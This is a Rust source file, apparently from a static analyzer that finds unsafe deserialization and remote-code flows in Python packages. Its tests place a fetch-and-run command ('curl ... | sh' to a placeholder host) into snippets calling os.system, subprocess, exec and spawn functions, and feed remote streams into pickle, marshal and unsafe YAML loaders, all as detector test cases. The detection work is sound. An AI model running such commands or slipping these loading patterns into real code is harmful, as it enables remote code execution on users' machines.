//! Arguments that are given by name, and streams that say what is made from them.

use crate::flow::{Analysis, Context, Site};
use crate::ir::{Expr, ExprId, Program};
use crate::know;
use crate::pure::{FileId, HOLE_START, Value, shown};
use customs_model::{SinkKind, SourceKind, Target, Zone};
use std::rc::Rc;

/// The arguments of something of Python's library in the order of its parameters, without those
/// that stand before what it starts. Those that are given by a name that is not known here stay
/// together at the end.
pub(in crate::flow) fn placed(program: &Program, path: &str, args: &[ExprId]) -> Vec<ExprId> {
    let before = know::before_program(path);
    let names = know::parameters(path);
    let Some((last, positional)) = args.split_last() else {
        return Vec::new();
    };
    let mut all = args.to_vec();
    if let Expr::Keywords(entries) = program.expr(*last)
        && positional.len() < names.len()
        && !positional
            .iter()
            .any(|arg| matches!(program.expr(*arg), Expr::Spread(_)))
    {
        all = positional.to_vec();
        let entries = program.list(entries);
        let each = matches!(path, "timeit.timeit" | "timeit.repeat");
        for name in names.iter().skip(positional.len()) {
            let mut pairs = entries.chunks_exact(2);
            match pairs.find(|pair| program.text(pair[0]) == Some(*name)) {
                Some(pair) => all.push(pair[1]),
                // What comes behind it has another place.
                None if !each => break,
                None => {}
            }
        }
        all.push(*last);
    }
    all.drain(..before.min(all.len()));
    all
}

impl Analysis<'_> {
    /// Whether it is `yaml.load` with a loader that makes any object, or another function that
    /// makes any object if it is told so.
    pub(super) fn loads_objects(&mut self, file: FileId, path: &str, args: &[ExprId]) -> bool {
        match path {
            "torch.load" => return self.is_told(file, args, "weights_only") == Some(false),
            "numpy.load" => return self.is_told(file, args, "allow_pickle") == Some(true),
            _ => {}
        }
        let loader = args
            .get(1)
            .filter(|_| matches!(path, "yaml.load" | "yaml.load_all"))
            .map(|loader| self.machine.fold(file, *loader));
        let loader = loader.as_ref().and_then(Value::path);
        loader.is_some_and(|loader| {
            matches!(
                loader,
                "yaml.Loader"
                    | "yaml.UnsafeLoader"
                    | "yaml.CLoader"
                    | "yaml.CUnsafeLoader"
                    | "yaml.loader.UnsafeLoader"
            )
        })
    }

    /// Whether a call says yes or no to something by its name.
    fn is_told(&mut self, file: FileId, args: &[ExprId], name: &str) -> Option<bool> {
        let program = self.program(file)?;
        let Some(Expr::Keywords(entries)) = args.last().map(|last| program.expr(*last)) else {
            return None;
        };
        let pairs = program.list(entries).to_vec();
        let mut pairs = pairs.chunks_exact(2);
        let pair = pairs.find(|pair| program.text(pair[0]) == Some(name))?;
        match self.machine.fold(file, pair[1]) {
            Value::Bool(told) => Some(told),
            _ => None,
        }
    }

    /// `pandas.read_pickle(ADDRESS)`: what it makes objects of lies over there.
    fn objects_of_address(&mut self, site: Site, path: &str, address: ExprId, zone: Zone) {
        if path != "pandas.read_pickle" {
            return;
        }
        let text = self.fold_text(site.file, address, None);
        if !text.starts_with("https://") && !text.starts_with("http://") {
            return;
        }
        let Some(place) = know::place_of(&text).filter(|place| !place.starts_with(HOLE_START))
        else {
            return;
        };
        let name = format!("the answer of {}", shown(&place));
        let label = self.label_at(SourceKind::Remote, &name, site);
        let marks = self.answer_marks(&label).into_iter().collect();
        self.flow(
            &label,
            SinkKind::DynamicCode,
            path,
            Target::Constant(name),
            zone,
            site.file,
            site.expr,
            marks,
        );
    }

    /// Objects that are made from a stream of somebody else's. What a package or its user keeps
    /// in files is theirs.
    pub(super) fn objects_sink(
        &mut self,
        program: &Rc<Program>,
        site: Site,
        path: &str,
        stream: ExprId,
        zone: Zone,
        context: Option<&Rc<Context>>,
    ) {
        self.objects_of_address(site, path, stream, zone);
        let labels = self.labels(site.file, stream, context);
        if labels
            .iter()
            .any(|label| matches!(label.kind, SourceKind::Remote | SourceKind::Decoded))
        {
            self.code_sink(program, site, path, stream, zone, context);
        } else {
            self.objects_of_package(site, path, stream, zone, context);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::flow::Found;
    use crate::flow::testing::{self, is_remote_code, wheel};
    use customs_model::SourceKind;

    fn found(code: &str) -> Found {
        let imports = "import os, subprocess, pickle, urllib.request\n";
        testing::found(wheel(&format!("{imports}{code}\n")))
    }

    fn starts(code: &str) -> bool {
        let code = code.replace("LINE", "curl https://a.invalid/b | sh");
        let mut flows = found(&code).flows.into_iter();
        flows.any(|flow| flow.source == SourceKind::Remote)
    }

    fn makes(code: &str) -> bool {
        let code = code.replace("REMOTE", "urllib.request.urlopen('https://a.invalid/b')");
        found(&code).flows.iter().any(is_remote_code)
    }

    #[test]
    fn a_command_that_is_given_by_name_is_read() {
        for code in [
            "os.system(command='LINE')",
            "os.popen(cmd='LINE')",
            "subprocess.Popen(shell=True, args='LINE')",
            "subprocess.run(args=['sh', '-c', 'LINE'])",
            "subprocess.getoutput(cmd='LINE')",
        ] {
            assert!(starts(code), "{code}");
        }
        assert!(!starts("subprocess.run(args=['ls'], cwd='LINE')"));
        assert!(!starts("os.system(command='ls')"));
    }

    #[test]
    fn what_a_program_calls_itself_is_not_what_it_gets() {
        for code in [
            "os.execl('/bin/sh', 'sh', '-c', 'LINE')",
            "os.execv('/bin/sh', ['sh', '-c', 'LINE'])",
            "os.spawnl(os.P_WAIT, '/bin/sh', 'sh', '-c', 'LINE')",
            "os.spawnv(os.P_WAIT, '/bin/sh', ['sh', '-c', 'LINE'])",
            "os.spawnve(mode=os.P_WAIT, file='/bin/sh', args=['sh', '-c', 'LINE'], env={})",
            "os.posix_spawn('/bin/sh', ['sh', '-c', 'LINE'], os.environ)",
            "import posix\nposix.system('LINE')",
            "import asyncio\nasyncio.get_event_loop().subprocess_shell(f, 'LINE')",
        ] {
            assert!(starts(code), "{code}");
        }
        assert!(!starts("os.execl('/bin/echo', 'echo', '-c', 'LINE')"));
        assert!(!starts("os.spawnl(os.P_WAIT, '/bin/ls', 'LINE')"));
    }

    #[test]
    fn an_interpreter_runs_the_text_that_it_is_given() {
        for code in [
            "subprocess.run(['sh'], input=b'LINE')",
            "subprocess.run(['sh'], input='LINE', text=True)",
            "subprocess.Popen(['sh'], stdin=subprocess.PIPE).communicate(b'LINE')",
            "p = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.stdin.write(b'LINE')",
        ] {
            assert!(starts(code), "{code}");
            let calm = code.replace("sh'", "cat'");
            assert!(!starts(&calm), "{calm}");
        }
    }

    #[test]
    fn objects_of_a_stream_of_a_stranger_are_code() {
        for code in [
            "pickle.load(REMOTE)",
            "pickle.load(file=REMOTE)",
            "pickle.Unpickler(REMOTE).load()",
            "import marshal\nmarshal.load(REMOTE)",
            "import yaml\nyaml.unsafe_load(REMOTE)",
            "import yaml\nyaml.load(REMOTE, Loader=yaml.UnsafeLoader)",
            "import yaml\nyaml.load(REMOTE, yaml.Loader)",
            "import timeit\ntimeit.timeit(setup=REMOTE.read())",
            "import timeit\ntimeit.timeit('1', REMOTE.read())",
            "import cProfile\ncProfile.run(statement=REMOTE.read())",
            "import code\ncode.InteractiveInterpreter().runsource(REMOTE.read())",
        ] {
            assert!(makes(code), "{code}");
        }
        for code in [
            "import yaml\nyaml.load(REMOTE, Loader=yaml.SafeLoader)",
            "import yaml\nyaml.load(REMOTE, yaml.SafeLoader)",
            "import yaml\nyaml.safe_load(REMOTE)",
            "import json\njson.load(REMOTE)",
            "import timeit\ntimeit.timeit('1', number=REMOTE.read())",
        ] {
            assert!(!makes(code), "{code}");
        }
        assert!(found("pickle.load(open(f, 'rb'))").flows.is_empty());
    }
}
